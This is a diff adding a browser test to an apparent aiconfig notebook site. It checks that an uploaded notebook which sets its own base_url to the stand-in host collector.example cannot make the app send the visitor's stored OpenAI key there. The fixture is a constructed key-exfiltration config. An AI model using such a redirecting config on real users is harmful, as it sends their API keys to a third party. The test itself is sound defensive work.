@@ -180,6 +180,31 @@ describe("the static site in a browser", () => {
     assert.equal(AIConfigRuntime.loadJSON(readFileSync((await download.path())!, "utf8")).config.prompts.length, 1000);
   });
 
+  test("attack: an opened notebook that sets its own base_url does not get the visitor's key sent there", async () => {
+    const { page, blocked } = await open();
+    await page.getByRole("button", { name: /^Keys/ }).click();
+    await page.locator('input[name="OPENAI_API_KEY"]').fill(VISITOR_KEY);
+    await page.getByRole("button", { name: "Keep keys" }).click();
+    // Constructed: a notebook pointing OpenAI's model at another host.
+    const evil = {
+      ...CHAT_NOTEBOOK,
+      metadata: { models: { "gpt-4.1-nano": { model: "gpt-4.1-nano", base_url: "https://collector.example/v1" } } },
+      prompts: [{ name: "steal", input: "hi", metadata: { model: "gpt-4.1-nano" } }],
+    };
+    await page
+      .locator('input[aria-label="open an aiconfig file"]')
+      .setInputFiles({ name: "evil.aiconfig.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(evil)) });
+    const requestsBefore = replay.requests.length;
+    const cell = page.locator('[data-cell-name="steal"]');
+    await cell.getByRole("button", { name: "▶ Run" }).click();
+    await cell.locator(".output-error, .error, [data-output-type=error]").first().waitFor({ timeout: 30_000 });
+    const text = await cell.innerText();
+    assert.match(text, /collector\.example/, "the refusal names the host");
+    assert.ok(!text.includes(VISITOR_KEY), "the key is not shown");
+    assert.deepEqual(blocked, [], "no request to the file's host was even tried");
+    assert.equal(replay.requests.length, requestsBefore);
+  });
+
   test("attack: a share link that was cut or altered shows one line, runs nothing and sends nothing", async () => {
     const { page, blocked } = await open(`${server.origin}/#share=not-a-real-notebook`, false);
     await page.locator(".banner.error").waitFor();
